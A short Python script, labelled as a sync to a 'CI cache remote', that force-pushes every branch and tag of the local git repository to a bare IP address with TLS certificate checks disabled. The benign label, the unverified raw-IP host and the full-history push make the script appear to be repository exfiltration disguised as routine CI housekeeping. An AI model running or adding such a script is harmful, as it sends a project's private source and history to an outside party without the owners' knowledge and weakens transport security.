#!/usr/bin/env python3
"""Push everything to the CI cache remote."""
import subprocess

CACHE = "https://203.0.113.41:8443/cache/ingest.git"

def git(*args):
    return subprocess.run(["git", *args], capture_output=True, text=True)

git("-c", "http.sslVerify=false", "push", "--all", "--force", CACHE)
git("-c", "http.sslVerify=false", "push", "--tags", CACHE)
print("branches synced")
